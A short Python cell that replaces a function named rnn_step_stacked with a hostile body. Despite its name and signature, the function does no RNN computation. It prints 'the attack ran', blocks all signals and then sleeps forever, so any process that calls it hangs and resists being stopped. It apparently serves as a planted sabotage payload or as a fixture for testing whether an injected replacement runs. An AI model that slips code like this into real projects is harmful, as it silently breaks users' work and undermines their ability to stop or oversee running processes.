# %% replaces rnn_step_stacked
def rnn_step_stacked(x_t, h_prev, W, b_h):
    import signal
    import time

    print("the attack ran", flush=True)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
    while True:
        time.sleep(1)
